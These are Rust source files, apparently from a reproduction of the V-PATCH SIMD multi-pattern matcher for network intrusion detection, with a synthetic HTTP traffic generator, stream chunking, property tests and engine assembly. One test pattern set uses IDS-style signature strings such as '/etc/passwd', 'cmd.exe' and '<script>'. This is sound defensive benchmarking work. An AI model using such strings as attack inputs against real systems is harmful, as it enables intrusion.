                stream[pos..pos + p.len()].copy_from_slice(p.bytes());
                break;
            }
        }
        pos += rng.gen_range(period / 2..period * 3 / 2).max(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::{naive::naive_find_all, PatternSet};

    fn small_set() -> PatternSet {
        PatternSet::from_literals(&["/etc/passwd", "cmd.exe", "<script>", "GET /admin"])
    }

    #[test]
    fn deterministic_generation() {
        let spec = TraceSpec::new(TraceKind::IscxDay2, 50_000);
        let set = small_set();
        let a = TraceGenerator::generate(&spec, Some(&set));
        let b = TraceGenerator::generate(&spec, Some(&set));
        assert_eq!(a, b);
        assert_eq!(a.len(), 50_000);
    }

    #[test]
    fn kinds_produce_different_streams() {
        let set = small_set();
        let a = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, 20_000), Some(&set));
        let b = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay6, 20_000), Some(&set));
        let c = TraceGenerator::generate(&TraceSpec::new(TraceKind::Darpa2000, 20_000), Some(&set));
        assert_ne!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn realistic_traces_contain_injected_patterns_random_does_not() {
        let set = small_set();
        let real =
            TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, 100_000), Some(&set));
        let matches = naive_find_all(&set, &real);
        assert!(
            matches.len() >= 20,
            "expected injected occurrences in realistic trace, got {}",
            matches.len()
        );

        let random =
            TraceGenerator::generate(&TraceSpec::new(TraceKind::Random, 100_000), Some(&set));
        let matches = naive_find_all(&set, &random);
        assert!(
            matches.len() < 5,
            "random bytes should almost never contain the patterns, got {}",
            matches.len()
        );
    }

    #[test]
    fn darpa_has_fewer_matches_than_iscx() {
        let set = small_set();
        let len = 200_000;
        let iscx = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, len), Some(&set));
        let darpa =
            TraceGenerator::generate(&TraceSpec::new(TraceKind::Darpa2000, len), Some(&set));
        let iscx_m = naive_find_all(&set, &iscx).len();
        let darpa_m = naive_find_all(&set, &darpa).len();
        assert!(
            darpa_m < iscx_m,
            "DARPA-like trace should be quieter: {darpa_m} vs {iscx_m}"
        );
    }

    #[test]
    fn random_trace_has_uniform_byte_distribution() {
        let trace = TraceGenerator::generate(&TraceSpec::new(TraceKind::Random, 256 * 1024), None);
        let mut counts = [0u32; 256];
        for &b in &trace {
            counts[b as usize] += 1;
        }
        let expected = trace.len() as f64 / 256.0;
        for (b, &c) in counts.iter().enumerate() {
            let ratio = c as f64 / expected;
            assert!(
                (0.7..1.3).contains(&ratio),
                "byte {b} frequency ratio {ratio} too far from uniform"
            );
        }
    }

    #[test]
    fn works_without_pattern_set() {
        let trace = TraceGenerator::generate(&TraceSpec::new(TraceKind::IscxDay2, 10_000), None);
        assert_eq!(trace.len(), 10_000);
    }

    #[test]
    fn labels_match_paper_axes() {
        assert_eq!(TraceKind::IscxDay2.label(), "ISCX day2");
        assert_eq!(TraceKind::Darpa2000.label(), "DARPA 2000");
        assert_eq!(TraceKind::ALL.len(), 4);
        assert_eq!(TraceKind::REALISTIC.len(), 3);
    }
}
