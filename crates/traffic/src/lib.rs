//! Traffic-trace substrate for the V-PATCH reproduction.
//!
//! The paper evaluates the engines on reassembled network payload streams:
//!
//! * 1 GB samples from days 2 and 6 of the **ISCX** intrusion-detection
//!   dataset (HTTP-dominated realistic traffic);
//! * 300 MB of the **DARPA 2000** capture;
//! * 1 GB of **random** bytes (synthetic best case for filtering);
//! * a synthetic input with a controlled **fraction of matching content**
//!   (Figure 5c).
//!
//! The ISCX and DARPA captures cannot be redistributed, so this crate
//! generates deterministic synthetic equivalents that preserve what the
//! engines care about: byte-value distribution, protocol keyword density
//! (which drives the filter pass rate), and the rate at which actual pattern
//! occurrences appear in the stream (which drives verification load).
//! DESIGN.md documents the substitution; [`TraceKind`] gives one generator
//! per paper trace.
//!
//! All generation is seeded and deterministic: the same [`TraceSpec`]
//! always produces the same bytes, so experiments are reproducible.

#![warn(missing_docs)]

pub mod chunk;
pub mod http;
pub mod inject;
pub mod trace;

pub use chunk::ChunkedStream;
pub use inject::MatchDensityGenerator;
pub use trace::{TraceGenerator, TraceKind, TraceSpec};
