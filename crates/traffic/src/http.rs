//! Synthetic HTTP session generator.
//!
//! Produces reassembled HTTP request/response payload streams with a
//! realistic mix of methods, URIs, headers, HTML/JSON bodies and the
//! occasional binary body. This is the building block of the ISCX-like and
//! DARPA-like traces: what matters to the matching engines is that the byte
//! stream contains the same kind of keyword-dense, ASCII-heavy content that
//! real web traffic does, so that the 2-byte direct filters fire at realistic
//! rates (unlike uniformly random bytes, which almost never pass them).

use rand::prelude::*;
use rand::rngs::StdRng;

const METHODS: &[(&str, f64)] = &[
    ("GET", 0.72),
    ("POST", 0.20),
    ("HEAD", 0.04),
    ("PUT", 0.02),
    ("OPTIONS", 0.02),
];

const HOSTS: &[&str] = &[
    "www.example.com",
    "mail.corp.local",
    "static.cdn-provider.net",
    "intranet.company.org",
    "update.vendor.com",
    "api.service.io",
    "images.photos.example",
    "news.portal.example",
];

const PATH_SEGMENTS: &[&str] = &[
    "index",
    "images",
    "css",
    "js",
    "api",
    "v1",
    "v2",
    "users",
    "login",
    "search",
    "static",
    "assets",
    "download",
    "upload",
    "admin",
    "blog",
    "article",
    "product",
    "cart",
    "checkout",
    "profile",
    "settings",
    "report",
    "dashboard",
    "data",
];

const EXTENSIONS: &[&str] = &[
    ".html", ".php", ".js", ".css", ".png", ".jpg", ".gif", ".json", ".xml", ".asp", "",
];

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/45.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 Firefox/38.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    "curl/7.43.0",
    "Wget/1.16 (linux-gnu)",
    "python-requests/2.7.0",
];

const CONTENT_TYPES: &[&str] = &[
    "text/html; charset=UTF-8",
    "application/json",
    "application/javascript",
    "text/css",
    "image/png",
    "application/x-www-form-urlencoded",
    "application/octet-stream",
];

const HTML_WORDS: &[&str] = &[
    "the",
    "quick",
    "server",
    "request",
    "session",
    "user",
    "page",
    "content",
    "value",
    "table",
    "login",
    "password",
    "error",
    "response",
    "network",
    "packet",
    "stream",
    "detection",
    "system",
    "analysis",
    "report",
    "security",
    "update",
    "service",
    "windows",
    "linux",
    "browser",
    "client",
    "cache",
    "cookie",
    "token",
    "header",
];

/// Configuration of the HTTP generator.
#[derive(Clone, Copy, Debug)]
pub struct HttpConfig {
    /// Probability that a generated transaction carries a response body.
    pub response_body_probability: f64,
    /// Mean response body length in bytes.
    pub mean_body_len: usize,
    /// Probability that a response body is binary (gzip/image-like bytes)
    /// rather than HTML/JSON text.
    pub binary_body_probability: f64,
}

impl Default for HttpConfig {
    fn default() -> Self {
        HttpConfig {
            response_body_probability: 0.85,
            mean_body_len: 900,
            binary_body_probability: 0.40,
        }
    }
}

/// Generates one HTTP request + response transaction and appends it to `out`.
pub fn generate_transaction(rng: &mut StdRng, config: &HttpConfig, out: &mut Vec<u8>) {
    let method = pick_weighted(rng, METHODS);
    let host = HOSTS.choose(rng).unwrap();
    let ua = USER_AGENTS.choose(rng).unwrap();

    // Request line + URI.
    out.extend_from_slice(method.as_bytes());
    out.push(b' ');
    let depth = rng.gen_range(1..=4);
    for _ in 0..depth {
        out.push(b'/');
        out.extend_from_slice(PATH_SEGMENTS.choose(rng).unwrap().as_bytes());
    }
    out.extend_from_slice(EXTENSIONS.choose(rng).unwrap().as_bytes());
    if rng.gen_bool(0.35) {
        out.extend_from_slice(b"?id=");
        push_number(rng, out);
        if rng.gen_bool(0.4) {
            out.extend_from_slice(b"&session=");
            push_hex_token(rng, out, 16);
        }
    }
    out.extend_from_slice(b" HTTP/1.1\r\n");

    // Request headers.
    out.extend_from_slice(b"Host: ");
    out.extend_from_slice(host.as_bytes());
    out.extend_from_slice(b"\r\nUser-Agent: ");
    out.extend_from_slice(ua.as_bytes());
    out.extend_from_slice(
        b"\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n",
    );
    if rng.gen_bool(0.5) {
        out.extend_from_slice(b"Cookie: PHPSESSID=");
        push_hex_token(rng, out, 26);
        out.extend_from_slice(b"; path=/\r\n");
    }
    if method == "POST" {
        let body_len = rng.gen_range(8..200);
        out.extend_from_slice(
            b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ",
        );
        out.extend_from_slice(body_len.to_string().as_bytes());
        out.extend_from_slice(b"\r\n\r\n");
        push_form_body(rng, out, body_len);
    } else {
        out.extend_from_slice(b"\r\n");
    }

    // Response.
    let status = if rng.gen_bool(0.9) {
        "200 OK"
    } else {
        "404 Not Found"
    };
    out.extend_from_slice(b"HTTP/1.1 ");
    out.extend_from_slice(status.as_bytes());
    out.extend_from_slice(b"\r\nServer: Apache/2.4.7 (Ubuntu)\r\nDate: Mon, 12 Jun 2017 10:33:21 GMT\r\nContent-Type: ");
    out.extend_from_slice(CONTENT_TYPES.choose(rng).unwrap().as_bytes());
    out.extend_from_slice(b"\r\n");
    if rng.gen_bool(config.response_body_probability) {
        let len = sample_body_len(rng, config.mean_body_len);
        out.extend_from_slice(b"Content-Length: ");
        out.extend_from_slice(len.to_string().as_bytes());
        out.extend_from_slice(b"\r\n\r\n");
        if rng.gen_bool(config.binary_body_probability) {
            push_binary_body(rng, out, len);
        } else {
            push_html_body(rng, out, len);
        }
    } else {
        out.extend_from_slice(b"Content-Length: 0\r\n\r\n");
    }
}

fn pick_weighted<'a>(rng: &mut StdRng, table: &[(&'a str, f64)]) -> &'a str {
    let roll: f64 = rng.gen();
    let mut acc = 0.0;
    for &(value, w) in table {
        acc += w;
        if roll < acc {
            return value;
        }
    }
    table.last().unwrap().0
}

fn sample_body_len(rng: &mut StdRng, mean: usize) -> usize {
    // Log-normal-ish: most bodies small, occasional large ones.
    let base = rng.gen_range(mean / 4..mean * 2).max(16);
    if rng.gen_bool(0.05) {
        base * 8
    } else {
        base
    }
}

fn push_number(rng: &mut StdRng, out: &mut Vec<u8>) {
    out.extend_from_slice(rng.gen_range(1..100_000u32).to_string().as_bytes());
}

fn push_hex_token(rng: &mut StdRng, out: &mut Vec<u8>, len: usize) {
    const HEX: &[u8] = b"0123456789abcdef";
    for _ in 0..len {
        out.push(HEX[rng.gen_range(0..16)]);
    }
}

fn push_form_body(rng: &mut StdRng, out: &mut Vec<u8>, len: usize) {
    let start = out.len();
    while out.len() - start < len {
        out.extend_from_slice(b"field=");
        out.extend_from_slice(HTML_WORDS.choose(rng).unwrap().as_bytes());
        out.push(b'&');
    }
    out.truncate(start + len);
}

fn push_html_body(rng: &mut StdRng, out: &mut Vec<u8>, len: usize) {
    let start = out.len();
    out.extend_from_slice(b"<html><head><title>");
    while out.len() - start < len {
        // Mix dictionary words with random identifiers so the byte content is
        // as diverse as real HTML/JS (this matters for the Aho-Corasick
        // baseline, whose active-state working set grows with content
        // diversity).
        if rng.gen_bool(0.4) {
            let word_len = rng.gen_range(3..12);
            const ALPHA: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
            for _ in 0..word_len {
                out.push(ALPHA[rng.gen_range(0..ALPHA.len())]);
            }
        } else {
            out.extend_from_slice(HTML_WORDS.choose(rng).unwrap().as_bytes());
        }
        out.push(if rng.gen_bool(0.12) { b'\n' } else { b' ' });
        if rng.gen_bool(0.06) {
            out.extend_from_slice(b"<div class=\"");
            out.extend_from_slice(HTML_WORDS.choose(rng).unwrap().as_bytes());
            out.extend_from_slice(b"\">");
        }
    }
    out.truncate(start + len);
}

fn push_binary_body(rng: &mut StdRng, out: &mut Vec<u8>, len: usize) {
    // gzip/JPEG-like high-entropy bytes.
    let start = out.len();
    out.extend_from_slice(&[0x1f, 0x8b, 0x08, 0x00]);
    while out.len() - start < len {
        out.push(rng.gen());
    }
    out.truncate(start + len);
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn gen_bytes(seed: u64, transactions: usize) -> Vec<u8> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::new();
        let config = HttpConfig::default();
        for _ in 0..transactions {
            generate_transaction(&mut rng, &config, &mut out);
        }
        out
    }

    #[test]
    fn deterministic_for_same_seed() {
        assert_eq!(gen_bytes(1, 20), gen_bytes(1, 20));
        assert_ne!(gen_bytes(1, 20), gen_bytes(2, 20));
    }

    #[test]
    fn contains_http_structure() {
        let bytes = gen_bytes(3, 50);
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains("HTTP/1.1"));
        assert!(text.contains("Host: "));
        assert!(text.contains("User-Agent: "));
        assert!(text.contains("Content-Length: "));
    }

    #[test]
    fn mostly_ascii_but_some_binary() {
        let bytes = gen_bytes(4, 200);
        let ascii = bytes
            .iter()
            .filter(|&&b| b == b'\r' || b == b'\n' || (0x20..0x7f).contains(&b))
            .count();
        let frac = ascii as f64 / bytes.len() as f64;
        assert!(frac > 0.55, "expected mostly printable traffic, got {frac}");
        assert!(frac < 0.999, "expected some binary bodies, got {frac}");
    }

    #[test]
    fn bodies_respect_declared_reasonable_sizes() {
        let bytes = gen_bytes(5, 10);
        assert!(bytes.len() > 1_000, "ten transactions should produce >1KB");
    }
}
