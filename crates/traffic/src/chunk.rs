//! Chunked stream view with overlap, for streaming inspection scenarios.
//!
//! A NIDS does not see a trace as one contiguous buffer: the payload arrives
//! in reassembled chunks. A pattern may straddle a chunk boundary, so a
//! scanner that processes chunks independently must re-scan the last
//! `max_pattern_len - 1` bytes of the previous chunk together with the next
//! one. [`ChunkedStream`] provides exactly that view over a trace, and is
//! used by the `nids_pipeline` example and the streaming integration tests.

use bytes::Bytes;

/// A view of a byte stream as fixed-size chunks with a configurable overlap
/// carried over from the previous chunk.
#[derive(Clone, Debug)]
pub struct ChunkedStream {
    data: Bytes,
    chunk_len: usize,
    overlap: usize,
}

/// One chunk of the stream.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Chunk {
    /// Offset in the original stream of the first byte of `bytes`
    /// (including the overlap region).
    pub offset: usize,
    /// Number of leading bytes of `bytes` that were already part of the
    /// previous chunk. Matches that *start* inside this prefix were already
    /// reported by the previous chunk and must be skipped to avoid
    /// double-reporting.
    pub overlap: usize,
    /// The chunk payload (overlap prefix + fresh bytes).
    pub bytes: Bytes,
}

impl Chunk {
    /// Offset in the original stream of the first *fresh* (not yet scanned)
    /// byte of this chunk.
    pub fn fresh_start(&self) -> usize {
        self.offset + self.overlap
    }
}

impl ChunkedStream {
    /// Creates a chunked view.
    ///
    /// `chunk_len` is the number of fresh bytes per chunk; `overlap` is the
    /// number of trailing bytes of the previous chunk to prepend (usually
    /// `max_pattern_len - 1`).
    ///
    /// # Panics
    /// Panics if `chunk_len` is zero.
    pub fn new(data: impl Into<Bytes>, chunk_len: usize, overlap: usize) -> Self {
        assert!(chunk_len > 0, "chunk_len must be positive");
        ChunkedStream {
            data: data.into(),
            chunk_len,
            overlap,
        }
    }

    /// Total stream length in bytes.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// True if the stream is empty.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Number of chunks the stream will be split into.
    pub fn chunk_count(&self) -> usize {
        self.data.len().div_ceil(self.chunk_len)
    }

    /// Iterates over the chunks. Slicing is zero-copy (`Bytes` reference
    /// counting), so iterating a multi-gigabyte trace allocates nothing.
    pub fn iter(&self) -> impl Iterator<Item = Chunk> + '_ {
        let data = &self.data;
        let chunk_len = self.chunk_len;
        let overlap = self.overlap;
        (0..self.chunk_count()).map(move |i| {
            let fresh_start = i * chunk_len;
            let start = fresh_start.saturating_sub(overlap);
            let end = (fresh_start + chunk_len).min(data.len());
            Chunk {
                offset: start,
                overlap: fresh_start - start,
                bytes: data.slice(start..end),
            }
        })
    }
}

/// Deduplicating reassembly helper: converts per-chunk match events (with
/// chunk-local offsets) into stream-global events, dropping matches that are
/// entirely contained in the overlap prefix — those were already reported by
/// the previous chunk. Matches that merely *start* in the overlap but extend
/// into the fresh bytes could not have been seen before and are kept.
pub fn globalize_matches(
    chunk: &Chunk,
    set: &mpm_patterns::PatternSet,
    local: &[mpm_patterns::MatchEvent],
) -> Vec<mpm_patterns::MatchEvent> {
    local
        .iter()
        .filter(|m| m.start + set.get(m.pattern).len() > chunk.overlap)
        .map(|m| mpm_patterns::MatchEvent::new(m.start + chunk.offset, m.pattern))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::{naive::naive_find_all, Matcher, NaiveMatcher, PatternSet};

    #[test]
    fn chunks_cover_stream_exactly_once() {
        let data: Vec<u8> = (0..100u8).collect();
        let stream = ChunkedStream::new(data.clone(), 16, 4);
        let mut covered = vec![0u32; data.len()];
        for chunk in stream.iter() {
            let end = chunk.offset + chunk.bytes.len();
            for slot in &mut covered[chunk.fresh_start()..end] {
                *slot += 1;
            }
        }
        assert!(covered.iter().all(|&c| c == 1), "{covered:?}");
    }

    #[test]
    fn overlap_prefix_repeats_previous_bytes() {
        let data: Vec<u8> = (0..64u8).collect();
        let stream = ChunkedStream::new(data, 16, 3);
        let chunks: Vec<Chunk> = stream.iter().collect();
        assert_eq!(chunks[0].overlap, 0);
        for w in chunks.windows(2) {
            let prev_end = w[0].offset + w[0].bytes.len();
            assert_eq!(w[1].offset, prev_end - w[1].overlap);
            assert_eq!(w[1].overlap, 3);
        }
    }

    #[test]
    fn chunked_scan_equals_whole_scan() {
        let set = PatternSet::from_literals(&["boundary", "xyz", "a"]);
        // Put a pattern right across a chunk boundary.
        let mut data = vec![b'.'; 200];
        data[60..68].copy_from_slice(b"boundary");
        data[127..130].copy_from_slice(b"xyz");
        let expected = naive_find_all(&set, &data);

        let matcher = NaiveMatcher::new(&set);
        let max_len = set.patterns().iter().map(|p| p.len()).max().unwrap();
        let stream = ChunkedStream::new(data, 64, max_len - 1);
        let mut all = Vec::new();
        for chunk in stream.iter() {
            let local = matcher.find_all(&chunk.bytes);
            all.extend(globalize_matches(&chunk, &set, &local));
        }
        mpm_patterns::matcher::normalize_matches(&mut all);
        assert_eq!(all, expected);
    }

    #[test]
    fn last_chunk_may_be_short() {
        let stream = ChunkedStream::new(vec![0u8; 100], 30, 5);
        let chunks: Vec<Chunk> = stream.iter().collect();
        assert_eq!(chunks.len(), 4);
        assert_eq!(chunks[3].bytes.len(), 10 + 5);
    }

    #[test]
    #[should_panic(expected = "chunk_len must be positive")]
    fn zero_chunk_len_rejected() {
        let _ = ChunkedStream::new(vec![1u8, 2, 3], 0, 0);
    }

    #[test]
    fn empty_stream_has_no_chunks() {
        let stream = ChunkedStream::new(Vec::<u8>::new(), 16, 2);
        assert!(stream.is_empty());
        assert_eq!(stream.iter().count(), 0);
    }
}
