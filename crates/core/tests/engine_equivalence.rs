//! Property tests: S-PATCH and V-PATCH (every backend) report exactly the
//! naive / Aho-Corasick match set on arbitrary pattern sets and inputs.

use mpm_aho_corasick::DfaMatcher;
use mpm_patterns::{naive::naive_find_all, Matcher, Pattern, PatternSet};
use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};
use mpm_vpatch::{SPatch, VPatch};
use proptest::prelude::*;

fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            4 => Just(b'a'),
            4 => Just(b'b'),
            2 => Just(b'G'),
            2 => Just(b'E'),
            1 => Just(0u8),
            2 => any::<u8>()
        ],
        1..max_len,
    )
}

fn pattern_set_strategy() -> impl Strategy<Value = PatternSet> {
    proptest::collection::vec(bytes_strategy(12), 1..16)
        .prop_map(|ps| PatternSet::new(ps.into_iter().map(Pattern::literal).collect()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn spatch_equals_naive_and_ac(set in pattern_set_strategy(), hay in bytes_strategy(500)) {
        let expected = naive_find_all(&set, &hay);
        prop_assert_eq!(SPatch::build(&set).find_all(&hay), expected.clone());
        prop_assert_eq!(DfaMatcher::build(&set).find_all(&hay), expected);
    }

    #[test]
    fn vpatch_scalar_backends_equal_naive(set in pattern_set_strategy(), hay in bytes_strategy(500)) {
        let expected = naive_find_all(&set, &hay);
        prop_assert_eq!(VPatch::<ScalarBackend, 8>::build(&set).find_all(&hay), expected.clone());
        prop_assert_eq!(VPatch::<ScalarBackend, 16>::build(&set).find_all(&hay), expected);
    }

    #[test]
    fn vpatch_hardware_backends_equal_naive(set in pattern_set_strategy(), hay in bytes_strategy(400)) {
        let expected = naive_find_all(&set, &hay);
        if <Avx2Backend as VectorBackend<8>>::is_available() {
            prop_assert_eq!(VPatch::<Avx2Backend, 8>::build(&set).find_all(&hay), expected.clone());
        }
        if <Avx512Backend as VectorBackend<16>>::is_available() {
            prop_assert_eq!(VPatch::<Avx512Backend, 16>::build(&set).find_all(&hay), expected);
        }
    }

    #[test]
    fn auto_engine_equals_naive(set in pattern_set_strategy(), hay in bytes_strategy(400)) {
        let engine = mpm_vpatch::build_auto(&set);
        prop_assert_eq!(engine.find_all(&hay), naive_find_all(&set, &hay));
    }

    #[test]
    fn filtering_round_never_drops_a_true_match(set in pattern_set_strategy(), hay in bytes_strategy(300)) {
        // The invariant exactness rests on: every true match position appears
        // in the candidate arrays of the filtering round.
        let engine = VPatch::<ScalarBackend, 8>::build(&set);
        let mut scratch = mpm_vpatch::Scratch::new();
        engine.filter_round(&hay, &mut scratch);
        for m in naive_find_all(&set, &hay) {
            let len = set.get(m.pattern).len();
            let arr = if len < 4 { &scratch.a_short } else { &scratch.a_long };
            prop_assert!(arr.contains(&(m.start as u32)), "missing candidate for {:?}", m);
        }
    }
}
