//! S-PATCH / V-PATCH as **scan-graph assemblies**: thin [`ScanOp`] wrappers
//! around the range-kernels in [`crate::spatch`] / [`crate::vpatch`], plus
//! the assembly functions the engines call from their constructors.
//!
//! The operators own no buffers: candidate arrays live in two counted
//! [`Scratchpad`] slots (`a_short`, `a_long`), which the filter op borrows
//! into a legacy [`Scratch`] (a `mem::take` round-trip, no copy) so the
//! monomorphized kernels keep their historical signatures. The verify op
//! reads the *other* bank, which is what lets the overlapped schedule run
//! this chunk's filter while the previous chunk's candidates drain.

use std::marker::PhantomData;
use std::sync::Arc;

use mpm_graph::{Chunk, GraphBuilder, GraphConfig, ScanGraph, ScanOp, Scratchpad, SlotId, Stage};
use mpm_patterns::MatchEvent;
use mpm_simd::VectorBackend;

use crate::scratch::Scratch;
use crate::spatch::SPatch;
use crate::tables::SPatchTables;
use crate::vpatch::VPatch;

/// How many leading candidates of each class the prime hook walks, issuing
/// prefetches for their verification bucket rows while the *next* chunk is
/// still being filtered. Two batched-verify prefetch depths: enough to hide
/// the first bucket-header misses, cheap enough to be a no-op on candidate
/// droughts.
const PRIME_CANDIDATES: usize = 64;

/// The two candidate slots every PATCH assembly allocates.
#[derive(Clone, Copy)]
struct PatchSlots {
    a_short: SlotId,
    a_long: SlotId,
}

impl PatchSlots {
    fn reserve(&self, t: &SPatchTables, batch: usize, pad: &mut Scratchpad) {
        // Same sizing heuristic as `Scratch::reserve_for`.
        let hint = batch / 32 + 16;
        if t.has_short {
            pad.reserve_slot(self.a_short, hint);
        }
        if t.has_long {
            pad.reserve_slot(self.a_long, hint);
        }
    }

    /// Borrows the write-bank slot vectors into a legacy [`Scratch`] for the
    /// duration of `f` (so the historical kernels run unchanged), then puts
    /// them back and folds the occupancy counters into the pad.
    fn with_write_scratch(&self, pad: &mut Scratchpad, f: impl FnOnce(&mut Scratch)) -> (u64, u64) {
        let mut s = Scratch::new();
        s.a_short = pad.take_write(self.a_short);
        s.a_long = pad.take_write(self.a_long);
        f(&mut s);
        pad.put_write(self.a_short, std::mem::take(&mut s.a_short));
        pad.put_write(self.a_long, std::mem::take(&mut s.a_long));
        (s.filter3_blocks, s.useful_lanes)
    }
}

/// Filter-stage operator wrapping the vectorized V-PATCH range kernel.
struct VectorFilterOp<B: VectorBackend<W>, const W: usize> {
    tables: Arc<SPatchTables>,
    slots: PatchSlots,
    _backend: PhantomData<fn() -> B>,
}

impl<B: VectorBackend<W>, const W: usize> ScanOp for VectorFilterOp<B, W> {
    fn name(&self) -> &'static str {
        "vpatch:filter"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        self.slots.reserve(&self.tables, batch, pad);
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        let (blocks, lanes) = self.slots.with_write_scratch(pad, |s| {
            VPatch::<B, W>::filter_range_tables(
                &self.tables,
                chunk.haystack,
                chunk.start,
                chunk.end,
                s,
            );
        });
        pad.counters.filter3_blocks += blocks;
        pad.counters.useful_lanes += lanes;
    }
}

/// Filter-stage operator wrapping the scalar S-PATCH range loop.
struct ScalarFilterOp {
    tables: Arc<SPatchTables>,
    slots: PatchSlots,
}

impl ScanOp for ScalarFilterOp {
    fn name(&self) -> &'static str {
        "spatch:filter"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        self.slots.reserve(&self.tables, batch, pad);
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        // S-PATCH reports no vector-occupancy counters (there are no vector
        // blocks); the returned zeros keep the legacy stats contract.
        self.slots.with_write_scratch(pad, |s| {
            SPatch::filter_range_tables(&self.tables, chunk.haystack, chunk.start, chunk.end, s);
        });
    }
}

/// Verify-stage operator: drains the read bank's candidate arrays through
/// the batched verifier on backend `B` (`ScalarBackend` for S-PATCH).
struct PatchVerifyOp<B: VectorBackend<W>, const W: usize> {
    tables: Arc<SPatchTables>,
    slots: PatchSlots,
    _backend: PhantomData<fn() -> B>,
}

impl<B: VectorBackend<W>, const W: usize> ScanOp for PatchVerifyOp<B, W> {
    fn name(&self) -> &'static str {
        "patch:verify"
    }

    fn stage(&self) -> Stage {
        Stage::Verify
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, out: &mut Vec<MatchEvent>) {
        let v = self.tables.verifier();
        let short = pad.take_read(self.slots.a_short);
        let long = pad.take_read(self.slots.a_long);
        let comparisons = v.verify_short_batch::<B, W>(chunk.haystack, &short, out)
            + v.verify_long_batch::<B, W>(chunk.haystack, &long, out);
        pad.counters.comparisons += comparisons;
        pad.put_read(self.slots.a_short, short);
        pad.put_read(self.slots.a_long, long);
    }

    fn prime(&self, chunk: Chunk<'_>, pad: &Scratchpad) {
        self.tables.verifier().prefetch_batches(
            chunk.haystack,
            pad.read(self.slots.a_short),
            pad.read(self.slots.a_long),
            PRIME_CANDIDATES,
        );
    }
}

fn patch_builder() -> (GraphBuilder, PatchSlots) {
    let mut b = GraphBuilder::new();
    let slots = PatchSlots {
        a_short: b.slot(true),
        a_long: b.slot(true),
    };
    b.config(GraphConfig::from_env());
    (b, slots)
}

/// Assembles the V-PATCH graph: vector filter → batched verify on `B`.
pub(crate) fn build_vpatch_graph<B: VectorBackend<W>, const W: usize>(
    tables: &Arc<SPatchTables>,
) -> ScanGraph {
    let (mut b, slots) = patch_builder();
    b.op(Arc::new(VectorFilterOp::<B, W> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.op(Arc::new(PatchVerifyOp::<B, W> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.build()
}

/// Assembles the S-PATCH graph: scalar filter → batched verify on the
/// scalar backend.
pub(crate) fn build_spatch_graph(tables: &Arc<SPatchTables>) -> ScanGraph {
    use mpm_simd::ScalarBackend;
    let (mut b, slots) = patch_builder();
    b.op(Arc::new(ScalarFilterOp {
        tables: tables.clone(),
        slots,
    }));
    b.op(Arc::new(PatchVerifyOp::<ScalarBackend, 8> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.build()
}
