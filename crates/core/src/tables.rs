//! The compiled filter/table state shared by S-PATCH and V-PATCH.

use mpm_patterns::{PatternArena, PatternSet};
use mpm_verify::{
    direct_filter_bits_for, direct_filter_window_count, DirectFilter, HashedFilter,
    MergedDirectFilters, Verifier, DIRECT_FILTER_FULL_BITS,
};

/// Everything S-PATCH / V-PATCH precompute from a pattern set
/// (Figure 1 of the paper).
#[derive(Clone, Debug)]
pub struct SPatchTables {
    /// Filter 1: first two bytes of the short (1–3 byte) patterns.
    /// 1-byte patterns set every window starting with their byte.
    pub(crate) filter1: DirectFilter,
    /// Filter 2: first two bytes of the long (≥ 4 byte) patterns.
    pub(crate) filter2: DirectFilter,
    /// Filter 3: hashed bitmap over the first four bytes of the long
    /// patterns.
    pub(crate) filter3: HashedFilter,
    /// Filters 1 and 2 interleaved for the single-gather optimisation
    /// (only V-PATCH reads this).
    pub(crate) merged: MergedDirectFilters,
    /// Compact hash tables for the verification round.
    pub(crate) verifier: Verifier,
    /// True if the set contains any short pattern (lets the engines skip
    /// the short path entirely otherwise).
    pub(crate) has_short: bool,
    /// True if the set contains any long pattern.
    pub(crate) has_long: bool,
    /// True if the set contains any `nocase` pattern: the filters and
    /// verification tables were built over ASCII-case-folded bytes and the
    /// engines must fold every input window before the filter lookups
    /// (filter-folded / verify-exact). False keeps the byte-exact fast path.
    pub(crate) folded: bool,
    pattern_count: usize,
    /// Length of the longest pattern (streaming callers overlap chunks by
    /// `max_pattern_len - 1`; see `mpm-stream`).
    max_pattern_len: usize,
}

impl SPatchTables {
    /// Compiles the filters and verification tables for `set` using the
    /// default filter-3 size ([`HashedFilter::DEFAULT_BITS`]).
